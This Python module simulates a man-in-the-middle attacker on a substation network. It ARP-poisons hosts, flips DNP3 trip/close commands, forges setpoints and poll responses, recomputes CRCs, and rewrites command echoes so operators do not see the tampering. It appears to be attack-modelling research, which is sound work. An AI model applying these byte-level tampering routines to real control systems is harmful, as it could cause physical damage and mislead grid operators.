"""The man-in-the-middle adversary.

Once both the router and the outstations are ARP-poisoned, every frame
between them arrives at the adversary, which holds it for a sampled
processing delay in a single FIFO server and then forwards it, possibly
edited:

* Command inversion flips the control octet of a binary DIRECT OPERATE.
* Setpoint forgery replaces the value of an analog DIRECT OPERATE.
* Response sniffing stores the points of every fifth poll response per outstation.
* Response forgery rewrites selected points of later poll responses, using the stored
  locations.

Edits are made on the encoded octets. Only the CRCs of the touched chunks
are recomputed, and the transport checksum is dropped so that it is
recomputed on emission. With masking on, the outstation's echo of a
tampered command is rewritten back to what the operator asked for.
"""

from __future__ import annotations

import logging
import random
import struct
from collections import deque
from dataclasses import dataclass, field
from enum import Enum
from typing import Iterable

from dnp3mitm import codec
from dnp3mitm.codec import CONTROL_CLOSE, CONTROL_TRIP, BLOCK_SIZE, Dnp3Packet, Dnp3Point, FunctionCode, PointType
from dnp3mitm.errors import SimulationError
from dnp3mitm.netsim.network import Interface, Node, arp_poison, arp_restore
from dnp3mitm.netsim.sim import Simulator, ms
from dnp3mitm.netsim.wire import Frame, WireError

log = logging.getLogger(__name__)


class PacketClass(str, Enum):
    BYPASS = "bypass"
    BINARY_DO = "binary_do"
    ANALOG_DO = "analog_do"
    READ_RESPONSE = "read_response"


DEFAULT_MEANS_MS = {
    PacketClass.BYPASS: 22.775,
    PacketClass.ANALOG_DO: 27.693,
    PacketClass.BINARY_DO: 30.217,
    PacketClass.READ_RESPONSE: 35.415,
}

# Bounded FIFO capacity (waiting packets, excluding the one in service).
DEFAULT_QUEUE_BOUND = 3


class StaleDatabase(LookupError):
    pass


class QueueOverflow(SimulationError):
    pass


@dataclass
class DelayModel:
    means_ms: dict[PacketClass, float] = field(default_factory=lambda: dict(DEFAULT_MEANS_MS))
    jitter: float = 0.10

    def __post_init__(self) -> None:
        self.means_ms = {PacketClass(k): float(v) for k, v in self.means_ms.items()}
        if not 0 <= self.jitter < 1:
            raise ValueError("jitter fraction must be in [0, 1)")
        for k, v in self.means_ms.items():
            if v <= 0:
                raise ValueError(f"mean delay for {k.value} must be positive")

    def sample(self, cls: PacketClass, rng: random.Random) -> float:
        mean = self.means_ms[cls]
        return mean * (1 + rng.uniform(-self.jitter, self.jitter))


# --------------------------------------------------------------------------
# Classification
# --------------------------------------------------------------------------


def _dnp3_of(frame: Frame) -> Dnp3Packet | None:
    seg = frame.segment
    if seg is None or not seg.payload:
        return None
    try:
        return codec.decode_frame(seg.payload)
    except codec.CodecError:
        return None


def classify_packet(packet: Dnp3Packet | None) -> PacketClass:
    if packet is None:
        return PacketClass.BYPASS
    fn = packet.function
    if fn == FunctionCode.DIRECT_OPERATE:
        types = {b.point_type for b in packet.app.objects}
        if PointType.BO in types:
            return PacketClass.BINARY_DO
        if PointType.AO in types:
            return PacketClass.ANALOG_DO
    if fn == FunctionCode.SOLICITED_RESPONSE:
        return PacketClass.READ_RESPONSE
    return PacketClass.BYPASS


def classify(data: bytes | Frame) -> PacketClass:
    """Delay class of an Ethernet frame; anything undecodable is BYPASS."""
    if isinstance(data, Frame):
        frame = data
    else:
        try:
            frame = Frame.from_bytes(data)
        except WireError:
            return PacketClass.BYPASS
    return classify_packet(_dnp3_of(frame))


# --------------------------------------------------------------------------
# Byte paths
# --------------------------------------------------------------------------


def write_value(dnp: bytes, offset: int, octets: bytes, *, recompute_crc: bool = True) -> tuple[bytes, tuple[int, ...]]:
    """Write ``octets`` at a user-data offset, one chunk at a time.

    A value that straddles a block boundary becomes two partial writes,
    each followed by its chunk's CRC update.
    """
    touched: list[int] = []
    pos = 0
    while pos < len(octets):
        start = offset + pos
        room = BLOCK_SIZE - start % BLOCK_SIZE
        part = octets[pos : pos + room]
        dnp, chunks = codec.patch_user_data(dnp, start, part, recompute_crc=recompute_crc)
        touched.extend(c for c in chunks if c not in touched)
        pos += len(part)
    return dnp, tuple(touched)


def _first_point(packet: Dnp3Packet, ptype: PointType) -> int:
    for block in packet.app.objects:
        if block.point_type == ptype and block.count:
            return block.start_index
    raise codec.PointNotFound(f"no {ptype.name} point in packet")


def invert_control(dnp: bytes, *, recompute_crc: bool = True) -> tuple[bytes, int, int]:
    """Command inversion byte path. Returns (new frame, point index, original control)."""
    packet = codec.decode_frame(dnp)
    index = _first_point(packet, PointType.BO)
    (loc,), _ = codec.locate_point(packet, PointType.BO, index)
    original = codec.read_user_data(dnp, loc, 1)[0]
    new = CONTROL_TRIP if original == CONTROL_CLOSE else CONTROL_CLOSE
    out, _ = write_value(dnp, loc, bytes([new]), recompute_crc=recompute_crc)
    return out, index, original


def replace_analog(
    dnp: bytes, value: float, *, ptype: PointType = PointType.AO, index: int | None = None, recompute_crc: bool = True
) -> tuple[bytes, int, float]:
    """Setpoint forgery byte path: overwrite the 4 value octets of one analog point."""
    packet = codec.decode_frame(dnp)
    if index is None:
        index = _first_point(packet, ptype)
    offsets, _ = codec.locate_point(packet, ptype, index)
    original = struct.unpack("<f", codec.read_user_data(dnp, offsets[0], 4))[0]
    out, _ = write_value(dnp, offsets[0], struct.pack("<f", value), recompute_crc=recompute_crc)
    return out, index, original


# --------------------------------------------------------------------------
# Adversary state
# --------------------------------------------------------------------------


@dataclass(frozen=True)
class StoredAck:
    kind: PacketClass
    point_type: PointType
    index: int
    intent: float | int


@dataclass(frozen=True)
class ModPoint:
    outstation: int | None  # None means every outstation
    point_type: PointType
    point_index: int
    value: float | int


@dataclass
class AdversaryState:
    stored_acks: dict[int, StoredAck] = field(default_factory=dict)
    database: dict[int, dict[tuple[PointType, int], Dnp3Point]] = field(default_factory=dict)
    mod_points: list[ModPoint] = field(default_factory=list)
    sniff_counter: dict[int, int] = field(default_factory=dict)
    sniff_stride: int = 5
    sniffed: int = 0

    @property
    def binary_operate_ack(self) -> list[int]:
        return [a for a, s in self.stored_acks.items() if s.kind == PacketClass.BINARY_DO]

    @property
    def analog_operate_ack(self) -> list[int]:
        return [a for a, s in self.stored_acks.items() if s.kind == PacketClass.ANALOG_DO]

    def targets_for(self, outstation: int) -> list[ModPoint]:
        chosen: dict[tuple[PointType, int], ModPoint] = {}
        for mp in self.mod_points:
            if mp.outstation is None or mp.outstation == outstation:
                chosen[(mp.point_type, mp.point_index)] = mp
        return list(chosen.values())


def _rewrite(frame: Frame, dnp: bytes, src_mac: str | None, dst_mac: str | None) -> Frame:
    out = frame.with_payload(dnp)
    if src_mac is not None or dst_mac is not None:
        out = out.with_macs(dst_mac or out.dst, src_mac or out.src)
    return out


def modify_binary_direct_operate(
    frame: Frame, *, src_mac: str | None = None, dst_mac: str | None = None, recompute_crc: bool = True
) -> tuple[Frame, int, StoredAck]:
    """Command inversion on a full frame; returns (frame, stored ack number, intent record)."""
    seg = frame.segment
    dnp, index, original = invert_control(seg.payload, recompute_crc=recompute_crc)
    stored = StoredAck(PacketClass.BINARY_DO, PointType.BO, index, original)
    return _rewrite(frame, dnp, src_mac, dst_mac), seg.ack, stored


def modify_analog_direct_operate(
    frame: Frame,
    forged: float,
    *,
    src_mac: str | None = None,
    dst_mac: str | None = None,
    recompute_crc: bool = True,
) -> tuple[Frame, int, StoredAck]:
    """Setpoint forgery on a full frame."""
    seg = frame.segment
    dnp, index, original = replace_analog(seg.payload, forged, recompute_crc=recompute_crc)
    stored = StoredAck(PacketClass.ANALOG_DO, PointType.AO, index, original)
    return _rewrite(frame, dnp, src_mac, dst_mac), seg.ack, stored


def sniff_read_response(packet_bytes: bytes, state: AdversaryState) -> bool:
    """Response sniffing: count the response and store its points on every ``stride``-th one.

    Returns whether the response was stored. Empty payloads are skipped
    without counting.
    """
    if not packet_bytes:
        return False
    packet = codec.decode_frame(packet_bytes)
    outstation = packet.link.source
    n = state.sniff_counter.get(outstation, 0) + 1
    state.sniff_counter[outstation] = n
    if n % state.sniff_stride:
        return False
    points = codec.parse_points(packet)
    db = state.database.setdefault(outstation, {})
    for p in points:
        db[(p.point_type, p.point_index)] = p
    state.sniffed += 1
    return True


def _encode_value(ptype: PointType, value) -> bytes:
    if ptype.is_binary:
        return bytes([int(value)])
    return struct.pack("<f", value)


def modify_read_response(
    packet_bytes: bytes, state: AdversaryState, targets: Iterable[ModPoint] | None = None, *, recompute_crc: bool = True
) -> bytes:
    """Response forgery: rewrite targeted points at the locations held in the database."""
    packet = codec.decode_frame(packet_bytes)
    outstation = packet.link.source
    if targets is None:
        targets = state.targets_for(outstation)
    db = state.database.get(outstation, {})
    out = packet_bytes
    for mp in targets:
        stored = db.get((mp.point_type, mp.point_index))
        if stored is None or stored.offset is None:
            raise StaleDatabase(f"no stored location for {mp.point_type.name}[{mp.point_index}] of outstation {outstation}")
        loc = stored.offset if mp.point_type.is_binary else stored.offset + 1
        try:
            offsets, _ = codec.locate_point(packet, mp.point_type, mp.point_index)
        except codec.PointNotFound as exc:
            raise StaleDatabase(str(exc)) from exc
        if offsets[0] != loc:
            raise StaleDatabase(f"{mp.point_type.name}[{mp.point_index}] moved from offset {loc} to {offsets[0]}")
        out, _ = write_value(out, loc, _encode_value(mp.point_type, mp.value), recompute_crc=recompute_crc)
    return out


def modify_ack(packet_bytes: bytes, response_seq: int, state: AdversaryState, *, recompute_crc: bool = True) -> bytes:
    """Rewrite the echo of a tampered command back to the operator's intent."""
    stored = state.stored_acks.get(response_seq)
    if stored is None:
        return packet_bytes
    packet = codec.decode_frame(packet_bytes)
    try:
        offsets, _ = codec.locate_point(packet, stored.point_type, stored.index)
    except codec.PointNotFound:
        return packet_bytes
    del state.stored_acks[response_seq]
    out, _ = write_value(packet_bytes, offsets[0], _encode_value(stored.point_type, stored.intent), recompute_crc=recompute_crc)
    return out


# --------------------------------------------------------------------------
# Use cases
# --------------------------------------------------------------------------


@dataclass
class AdversaryConfig:
    use_case: int = 1
    masking: bool = True
    recompute_crc: bool = True
    forged_setpoint: float = 20.0
    mod_points: list[ModPoint] = field(default_factory=list)
    delay: DelayModel = field(default_factory=DelayModel)
    queue_bound: int = DEFAULT_QUEUE_BOUND
    sniff_stride: int = 5
    repoison_ms: float = 2000.0
    dnp3_port: int = 20000

    def __post_init__(self) -> None:
        if self.use_case not in (1, 2, 3, 4):
            raise ValueError(f"use case must be 1-4, got {self.use_case}")
        if self.queue_bound < 0:
            raise ValueError("queue_bound must be >= 0")
        if self.sniff_stride < 1:
            raise ValueError("sniff_stride must be >= 1")
        if self.use_case in (3, 4) and not self.mod_points:
            self.mod_points = [ModPoint(None, PointType.AI, 0, self.forged_setpoint)]

    @property
    def algorithms(self) -> tuple[str, ...]:
        return {
            1: ("invert_command",),
            2: ("forge_setpoint",),
            3: ("sniff_response", "forge_response", "forge_setpoint"),
            4: ("sniff_response", "forge_response", "forge_setpoint", "forge_response"),
        }[self.use_case]


def run_use_case(use_case: int, **overrides) -> AdversaryConfig:
    """Configured pipeline for one of the four use cases."""
    return AdversaryConfig(use_case=use_case, **overrides)


@dataclass(frozen=True)
class ProcessingSample:
    packet_class: PacketClass
    delay_ms: float


@dataclass
class _Held:
    frame: Frame
    arrived: int


class Adversary(Node):
    """Poisoning, forwarding and tampering node on the substation LAN."""

    def __init__(self, sim: Simulator, name: str, config: AdversaryConfig, rng: random.Random):
        super().__init__(sim, name)
        self.config = config
        self.rng = rng
        self.state = AdversaryState(mod_points=list(config.mod_points), sniff_stride=config.sniff_stride)
        self.router_ip: str | None = None
        self.outstation_ips: list[str] = []
        self.true_macs: dict[str, str] = {}
        self.active = False
        self.tampering = False
        self.queue: deque[_Held] = deque()
        self.busy = False
        self.samples: list[ProcessingSample] = []
        self.dropped: list[tuple[float, PacketClass]] = []
        self.events: list[tuple[float, str, dict]] = []
        self.poll_acks: dict[str, set[int]] = {}
        self.poison_frames = 0
        self._repoison = None

    @property
    def eth0(self) -> Interface:
        return self.interfaces[0]

    def add_interface(self, *args, **kwargs) -> Interface:
        iface = super().add_interface(*args, **kwargs)
        iface.manual_in_tap = True
        return iface

    def _note(self, what: str, **detail) -> None:
        self.events.append((self.sim.now_ms, what, detail))

    # -- reconnaissance and poisoning ---------------------------------------

    def set_victims(self, router_ip: str, outstation_ips: list[str]) -> None:
        self.router_ip = router_ip
        self.outstation_ips = list(outstation_ips)

    def recon(self) -> None:
        """Learn the real MACs with ordinary ARP requests."""
        for ip in [self.router_ip, *self.outstation_ips]:
            if self.lookup(ip) is None:
                self.resolve_async(self.eth0, ip, None)

    def learn(self, ip: str, mac: str) -> None:
        super().learn(ip, mac)
        if ip not in self.true_macs and mac != self.mac:
            self.true_macs[ip] = mac

    def start_attack(self) -> None:
        missing = [ip for ip in [self.router_ip, *self.outstation_ips] if ip not in self.true_macs]
        if missing:
            raise SimulationError(f"adversary has not resolved {missing}")
        self.active = True
        self.tampering = True
        self._note("attack_start")
        self._poison_all()

    def _poison_all(self) -> None:
        if not self.active:
            return
        router_mac = self.true_macs[self.router_ip]
        for ip in self.outstation_ips:
            arp_poison(self.eth0, self.router_ip, router_mac, ip)
            arp_poison(self.eth0, ip, self.true_macs[ip], self.router_ip)
            self.poison_frames += 2
        self._repoison = self.sim.after(ms(self.config.repoison_ms), self._poison_all, "repoison")

    def stop_attack(self) -> None:
        """Stop poisoning and tampering and put the real bindings back."""
        self.active = False
        self.tampering = False
        if self._repoison is not None:
            self._repoison.cancel()
        router_mac = self.true_macs[self.router_ip]
        for ip in self.outstation_ips:
            arp_restore(self.eth0, self.router_ip, router_mac, ip, self.true_macs[ip])
            arp_restore(self.eth0, ip, self.true_macs[ip], self.router_ip, router_mac)
        self._note("attack_stop")

    # -- forwarding pipeline -------------------------------------------------

    def forward(self, iface: Interface, frame: Frame) -> None:
        if len(self.queue) >= self.config.queue_bound and self.busy:
            cls = classify(frame)
            self.dropped.append((self.sim.now_ms, cls))
            self._note("queue_overflow", packet_class=cls.value)
            return
        iface.tap("in", frame)
        self.queue.append(_Held(frame, self.sim.now))
        if not self.busy:
            self._serve()

    def _serve(self) -> None:
        if not self.queue:
            self.busy = False
            return
        self.busy = True
        held = self.queue.popleft()
        cls = classify(held.frame)
        delay = ms(self.config.delay.sample(cls, self.rng))
        self.sim.after(delay, lambda: self._complete(held, cls), "adversary-service")

    def _complete(self, held: _Held, cls: PacketClass) -> None:
        out = self.process(held.frame, cls)
        hop = out.ip.dst if out.ip.dst in self.true_macs else self.router_ip
        dst_mac = self.true_macs.get(hop)
        if dst_mac is not None:
            self.eth0.send(out.with_macs(dst_mac, self.mac))
            self.samples.append(ProcessingSample(cls, (self.sim.now - held.arrived) / 1000))
        self._serve()

    def process(self, frame: Frame, cls: PacketClass) -> Frame:
        """Apply the configured algorithms to one held frame."""
        seg = frame.segment
        packet = _dnp3_of(frame)
        if packet is not None and packet.function == FunctionCode.READ and seg.dst_port == self.config.dnp3_port:
            self.poll_acks.setdefault(frame.ip.dst, set()).add(seg.ack)
        if not self.tampering or packet is None:
            return frame
        algs = self.config.algorithms
        recompute = self.config.recompute_crc
        try:
            if cls == PacketClass.BINARY_DO and "invert_command" in algs:
                out, ack, stored = modify_binary_direct_operate(frame, recompute_crc=recompute)
                if self.config.masking:
                    self.state.stored_acks[ack] = stored
                self._note("invert_command", ack=ack, index=stored.index)
                return out
            if cls == PacketClass.ANALOG_DO and "forge_setpoint" in algs:
                out, ack, stored = modify_analog_direct_operate(frame, self.config.forged_setpoint, recompute_crc=recompute)
                if self.config.masking:
                    self.state.stored_acks[ack] = stored
                if self.config.use_case == 4:
                    # Later poll responses should show the operator's own setpoint.
                    outstation = packet.link.destination
                    for ptype in (PointType.AI, PointType.AO):
                        self.state.mod_points.append(ModPoint(outstation, ptype, stored.index, stored.intent))
                self._note("forge_setpoint", ack=ack, index=stored.index, intent=stored.intent)
                return out
            if cls == PacketClass.READ_RESPONSE:
                return self._process_response(frame, packet)
        except (codec.CodecError, StaleDatabase) as exc:
            self._note("forward_unmodified", error=str(exc))
        return frame

    def _process_response(self, frame: Frame, packet: Dnp3Packet) -> Frame:
        seg = frame.segment
        dnp = seg.payload
        recompute = self.config.recompute_crc
        if seg.seq in self.state.stored_acks:
            dnp = modify_ack(dnp, seg.seq, self.state, recompute_crc=recompute)
            self._note("mask", seq=seg.seq)
            return frame.with_payload(dnp)
        polls = self.poll_acks.get(frame.ip.src, set())
        if seg.seq not in polls:
            return frame
        polls.discard(seg.seq)
        algs = self.config.algorithms
        if "sniff_response" in algs:
            try:
                if sniff_read_response(dnp, self.state):
                    self._note("sniff_response", outstation=packet.link.source)
            except codec.CodecError as exc:
                self._note("forward_unmodified", error=str(exc))
        if "forge_response" in algs:
            targets = self.state.targets_for(packet.link.source)
            if targets:
                dnp = modify_read_response(dnp, self.state, targets, recompute_crc=recompute)
                self._note("forge_response", outstation=packet.link.source)
                return frame.with_payload(dnp)
        return frame
